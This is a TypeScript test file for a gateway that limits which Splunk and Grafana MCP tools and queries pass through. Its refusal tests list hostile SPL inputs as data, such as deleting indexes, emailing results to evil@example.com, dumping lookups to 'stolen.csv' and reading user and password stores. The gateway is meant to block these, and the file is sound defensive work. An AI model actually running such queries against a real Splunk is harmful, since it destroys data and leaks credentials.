/** Splunk's own MCP server and mcp-grafana, as stand-ins: what is offered of them, and what gets through. */
import { afterAll, describe, expect, test } from "bun:test";
import { redact, systemClock } from "../../../core/mod.ts";
import {
  makePrometheusClient,
  makeSplunkClient,
  makeToolbox,
  type Toolbox,
  type ToolboxOptions,
} from "../../../mcp/mod.ts";
import { providerOf, startSplunkSim } from "../../../sim/mod.ts";
import { openLogBook } from "../../support/log-book.ts";
import { startPrometheus } from "../../support/prometheus.ts";
import { type FakeMcp, startFakeMcp } from "./fake-mcp.ts";
import { grafanaMcpTools, splunkMcpTools } from "./makers.ts";

const never = new AbortController().signal;
const closers: AsyncDisposable[] = [];
afterAll(async () => {
  for (const each of closers.reverse()) await each[Symbol.asyncDispose]();
});

function openWith(fake: FakeMcp, more: Partial<ToolboxOptions> = {}, server = {}): Toolbox {
  const toolbox = makeToolbox({
    redact,
    log: openLogBook().log,
    clock: systemClock,
    servers: [{ name: "it", reach: { url: fake.url }, ...server }],
    ...more,
  });
  closers.push(fake, toolbox);
  return toolbox;
}

/** Splunk's parser, as its REST API has it. */
function parser(): Pick<ToolboxOptions, "parseSpl"> {
  const sim = startSplunkSim({ rows: providerOf([]) });
  closers.push({ [Symbol.asyncDispose]: () => sim.stop() });
  const auth = { kind: "basic", user: "admin", password: "changed" } as const;
  const splunk = makeSplunkClient({ url: sim.url, auth, timeoutMs: 10_000 });
  return { parseSpl: (spl, signal) => splunk.parse(spl, signal) };
}

async function names(toolbox: Toolbox): Promise<string[]> {
  return (await toolbox.list(never)).map(({ name }) => name);
}

describe("Splunk's MCP server", () => {
  test("offers what reads; without a parser, no SPL", async () => {
    const fake = startFakeMcp(() => splunkMcpTools());
    const reading = [
      "it__splunk_get_indexes",
      "it__splunk_get_index_info",
      "it__splunk_get_metadata",
    ];
    expect(await names(openWith(fake, parser()))).toEqual(["it__splunk_run_query", ...reading]);
    expect(await names(openWith(fake))).toEqual(reading);
  });

  test("runs SPL of allowed commands within a day, and sends what was checked", async () => {
    const fake = startFakeMcp(() => splunkMcpTools());
    const toolbox = openWith(fake, parser());
    await toolbox.list(never);
    const query = "index=main level=ERROR | stats count by service";
    const args = { query, earliest_time: "-15m", latest_time: "now", row_limit: 10 };
    const answer = await toolbox.call("it__splunk_run_query", args, never);
    expect(answer.outcome).toBe("ok");
    expect(fake.calls).toEqual([
      { name: "splunk_run_query", args: { ...args, query: `search ${query}` } },
    ]);
  });

  test("everything else is refused, and does not arrive", async () => {
    const fake = startFakeMcp(() => splunkMcpTools());
    const toolbox = openWith(fake, parser());
    await toolbox.list(never);
    const at = { earliest_time: "-15m" };
    const refused: Record<string, unknown>[] = [
      { query: "search index=main", latest_time: "now" },
      { query: "search index=main", earliest_time: "-30d" },
      { query: "search index=main", earliest_time: "-1mon" },
      { query: "search index=main", earliest_time: "0" },
      { query: "search index=main", earliest_time: "2026-01-01T00:00:00Z", latest_time: "now" },
      { query: "search index=main", ...at, user: "admin" },
      { query: "search index=main", ...at, row_limit: "all" },
      { query: 7, ...at },
      { ...at },
      ...[
        "| delete",
        "search index=main | delete",
        "search index=main | outputlookup stolen.csv",
        "search index=main | sendemail to=evil@example.com",
        'search index=main | map search="search x"',
        "search index=main earliest=-1y",
        "search index=main | search latest=now",
        "search savedsearch=all",
        "search index=main | eval x=[search index=secret]",
        "search index=main `macro`",
        "search index=main | script evil",
        "| rest /services/authentication/users",
        "| inputlookup passwords.csv",
        "@spl2 from index:main | delete",
        "search index=main | stats count | collect index=summary",
        'search index=main "unclosed',
        "search (index=main",
        "search index=main OR | head 1",
      ].map((query) => ({ query, ...at })),
    ];
    for (const args of refused) {
      const { outcome, text } = await toolbox.call("it__splunk_run_query", args, never);
      expect([args, outcome, text.length > 10]).toEqual([args, "refused", true]);
    }
    for (const name of ["splunk_run_saved_search", "saia_generate_spl", "splunk_get_info"])
      expect((await toolbox.call(`it__${name}`, {}, never)).outcome).toBe("refused");
    expect(fake.calls).toEqual([]);
  });

  test("commands that only Splunk's parser sees are refused by it", async () => {
    const fake = startFakeMcp(() => splunkMcpTools());
    const parseSpl = () => Promise.resolve(["search", "delete"]);
    const toolbox = openWith(fake, { parseSpl });
    await toolbox.list(never);
    const args = { query: "search index=main", earliest_time: "-15m" };
    const answer = await toolbox.call("it__splunk_run_query", args, never);
    expect(answer).toMatchObject({ outcome: "refused" });
    expect(answer.text).toContain('"delete" is not allowed');
    expect(fake.calls).toEqual([]);
  });
});

describe("mcp-grafana", () => {
  test("asks a real Prometheus, and what it says comes back", async () => {
    const samples = "# TYPE up gauge\nup 1 1769673600\n# EOF\n";
    const prometheus = await startPrometheus({ openmetrics: samples });
    closers.push(prometheus);
    const client = makePrometheusClient({ url: prometheus.url });
    const result = await client.instant("up", 1_769_673_600_000, never);
    const fake = startFakeMcp(() => grafanaMcpTools(() => JSON.stringify(result.series)));
    const toolbox = openWith(fake);
    expect(await names(toolbox)).toEqual([
      "it__query_prometheus",
      "it__list_prometheus_metric_names",
      "it__search_dashboards",
      "it__get_dashboard_summary",
    ]);
    const times = { startTime: "now-1h", endTime: "now", stepSeconds: 60, queryType: "range" };
    const args = { datasourceUid: "p", expr: "up", ...times };
    const answer = await toolbox.call("it__query_prometheus", args, never);
    expect(answer.outcome).toBe("ok");
    expect(answer.text).toContain('"values":[1]');
    const moment = { datasourceUid: "p", expr: "up", endTime: "now", queryType: "instant" };
    expect((await toolbox.call("it__query_prometheus", moment, never)).outcome).toBe("ok");
  });

  test("PromQL that floods, windows that are long and tools that write do not arrive", async () => {
    const fake = startFakeMcp(() => grafanaMcpTools());
    const toolbox = openWith(fake);
    await toolbox.list(never);
    const base = { datasourceUid: "p", endTime: "now" };
    const refused: Record<string, unknown>[] = [
      { ...base, expr: '{__name__=~".+"}' },
      { ...base, expr: 'count({job!=""})' },
      { ...base, expr: "rate(up[365d])" },
      { ...base, expr: "max_over_time(rate(up[5m])[7d:1s])" },
      { ...base, expr: Array.from({ length: 20 }, () => "up").join(" + ") },
      { ...base, expr: `up{a="${"x".repeat(5_000)}"}` },
      { ...base, expr: "up) or (up" },
      { ...base, expr: "up", startTime: "now-30d" },
      { ...base, expr: "up", startTime: "yesterday" },
      { datasourceUid: "p", expr: "up", endTime: "tomorrow" },
      { ...base, expr: "up", queryType: "stream" },
      { expr: "up", endTime: "now" },
    ];
    for (const args of refused) {
      const { outcome } = await toolbox.call("it__query_prometheus", args, never);
      expect([args, outcome]).toEqual([args, "refused"]);
    }
    for (const name of ["update_dashboard", "create_annotation", "query_loki_logs"])
      expect((await toolbox.call(`it__${name}`, { text: "x" }, never)).outcome).toBe("refused");
    expect(fake.calls).toEqual([]);
  });
});

describe("the list of the configuration", () => {
  test("replaces the default; what says that it writes stays out whatever the list says", async () => {
    const fake = startFakeMcp(() => grafanaMcpTools());
    const allow = ["query_loki_logs", "update_dashboard", "create_annotation", "not_there"];
    expect(await names(openWith(fake, {}, { allow }))).toEqual(["it__query_loki_logs"]);
  });

  test("a rule holds for its argument, and takes the tool away where that is missing", async () => {
    const fake = startFakeMcp(() => grafanaMcpTools());
    const allow = ["search_dashboards", "get_dashboard_summary"];
    const language = "promql";
    const rules = [
      { tool: "search_dashboards", argument: "query", language },
      { tool: "get_dashboard_summary", argument: "gone", language },
    ] as const;
    const toolbox = openWith(fake, {}, { allow, rules });
    expect(await names(toolbox)).toEqual(["it__search_dashboards"]);
    const call = (query: string) => toolbox.call("it__search_dashboards", { query }, never);
    expect((await call("not promql at all")).outcome).toBe("refused");
    expect((await call("up")).outcome).toBe("ok");
  });

  test("a known tool whose query cannot be told is not offered", async () => {
    const odd = grafanaMcpTools().map((tool) =>
      tool.name === "query_prometheus"
        ? { ...tool, inputSchema: { type: "object" as const, properties: { q: {} } } }
        : tool,
    );
    expect(await names(openWith(startFakeMcp(() => odd)))).not.toContain("it__query_prometheus");
  });

  test("tools of two servers keep apart by name", async () => {
    const [one, two] = [
      startFakeMcp(() => grafanaMcpTools()),
      startFakeMcp(() => grafanaMcpTools()),
    ];
    const servers = [
      { name: "one", reach: { url: one.url } },
      { name: "two", reach: { url: two.url } },
    ];
    const toolbox = openWith(one, { servers });
    closers.push(two);
    expect(await names(toolbox)).toContain("two__search_dashboards");
    await toolbox.call("two__search_dashboards", { query: "x" }, never);
    expect([one.calls.length, two.calls.length]).toEqual([0, 1]);
    expect(() => openWith(one, { servers: [...servers, ...servers] })).toThrow(/"one"/);
    expect(() => openWith(one, { servers: [{ name: "a__b", reach: { url: one.url } }] })).toThrow();
  });
});
